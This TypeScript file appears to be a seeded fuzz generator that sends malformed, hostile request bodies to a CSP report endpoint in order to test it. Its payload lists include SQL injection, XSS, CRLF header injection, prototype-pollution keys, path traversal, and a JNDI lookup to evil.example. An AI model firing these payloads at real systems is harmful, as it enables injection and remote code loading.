/** Bodies that nobody should send: the same ones for the same seed. */

import { brotliCompressSync, gzipSync } from 'node:zlib'
import { legacy, modern } from '../reports.ts'

/** A request. */
export interface Hostile {
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: Buffer
}

/** Draws numbers: at least 0 and less than `below`. */
export type Draw = (below: number) => number

/** The numbers of a seed. @see https://github.com/cprosche/mulberry32 */
export function drawFrom(seed: number): Draw {
  let state = seed >>> 0
  return (below) => {
    state = (state + 0x6d_2b_79_f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 0x1_00_00_00_00) * below)
  }
}

const TYPES = [
  'application/csp-report',
  'application/reports+json; charset=utf-16',
  'application/json',
  'text/plain',
  'multipart/form-data; boundary=x',
  ';',
  'application/csp-report\t;;;',
]
const TEXTS: readonly string[] = [
  '',
  '\0',
  '\u001B[31m\r\nSet-Cookie: a=b',
  '\uD800',
  '\u202Egnp.exe',
  '__proto__',
  'constructor',
  "'; drop table reports; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  'https://',
  'https://[::1',
  'https://user:password@shop.example:99999/\\..//%00?#',
  `data:${'a'.repeat(3000)}`,
  'javascript:alert(1)',
  "script-src 'self' ".repeat(200),
]
const ODD: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  0.1,
  '12',
  '0x10',
  [],
  {},
  [[[]]],
  { toString: 1, valueOf: {}, length: -1 },
]
/** Texts of JSON that no value has: doubled keys, and keys that are not what they seem. */
const RAW: readonly string[] = [
  '',
  ' ',
  'null',
  '0',
  '"csp-report"',
  '[]',
  '{}',
  '[[[[[[[[[[]]]]]]]]]]',
  '{"csp-report":{},"csp-report":null}',
  '{"__proto__":{"csp-report":{"violated-directive":"x"}}}',
  '{"csp-report":{"__proto__":{"violated-directive":"x"}}}',
  '{"type":"csp-violation","body":{"toJSON":1,"effectiveDirective":"x"}}',
  '{"csp-report":{"violated-directive":1e999}}',
  '\uFEFF{',
  '{"a":"\\ud800"}',
]

/** The next request. */
export function drawHostile(draw: Draw): Hostile {
  const text = drawText(draw)
  const headers: Record<string, string> = {
    'content-type': pick(draw, TYPES),
    'user-agent': draw(4) === 0 ? 'x'.repeat(draw(draw(5) === 0 ? 3000 : 100)) : 'Firefox/153.0',
  }
  let body = damage(draw, Buffer.from(text, draw(20) === 0 ? 'utf16le' : 'utf8'))
  const packing = draw(20)
  if (packing === 0) body = damage(draw, gzipSync(body))
  if (packing === 1) body = damage(draw, brotliCompressSync(body, { params: { 1: 1 } }))
  if (packing < 3) headers['content-encoding'] = pick(draw, ['gzip', 'br', 'deflate', 'x', ','])
  if (draw(50) === 0) headers['x-forwarded-for'] = pick(draw, ['1.2.3.4', ',', '::1, x'])
  const path = pick(draw, ['/', '/shop', '/shop/../..//', '/%00', '/?'.repeat(200)])
  return { path, headers, body }
}

function drawText(draw: Draw): string {
  const kind = draw(10)
  if (kind === 0) return pick(draw, RAW)
  if (kind === 1) return '[{"a":'.repeat(draw(draw(5) === 0 ? 3000 : 100))
  if (kind === 2) {
    const length = draw(draw(20) === 0 ? 150 : 10)
    return JSON.stringify(Array.from({ length }, () => drawValue(draw)))
  }
  return JSON.stringify(drawValue(draw))
}

/** A report in which something is odd. */
function drawValue(draw: Draw): unknown {
  if (draw(10) === 0) return drawOdd(draw)
  const isLegacy = draw(2) === 0
  const report = (isLegacy ? legacy() : modern()) as Record<string, Record<string, unknown>>
  const inner = report[isLegacy ? 'csp-report' : 'body'] as Record<string, unknown>
  const names = Object.keys(inner)
  for (let count = draw(4); count > 0; count--) inner[pick(draw, names)] = drawOdd(draw)
  // A group of its own, as often as not.
  if (draw(2) === 0)
    inner[isLegacy ? 'blocked-uri' : 'blockedURL'] = `https://h${draw(1e9)}.example/`
  if (draw(8) === 0)
    (report as Record<string, unknown>)[pick(draw, ['type', 'url', 'age'])] = drawOdd(draw)
  return report
}

function drawOdd(draw: Draw): unknown {
  if (draw(50) === 0) return 'a'.repeat(70_000)
  return draw(2) === 0 ? pick(draw, TEXTS) : pick(draw, ODD)
}

/** Cuts some off, and changes a byte of some. */
function damage(draw: Draw, bytes: Buffer): Buffer {
  const kind = draw(12)
  if (kind === 0) return bytes.subarray(0, draw(bytes.length + 1))
  if (kind === 1 && bytes.length > 0) bytes[draw(bytes.length)] = draw(256)
  return bytes
}

function pick<Value>(draw: Draw, values: readonly Value[]): Value {
  return values[draw(values.length)] as Value
}
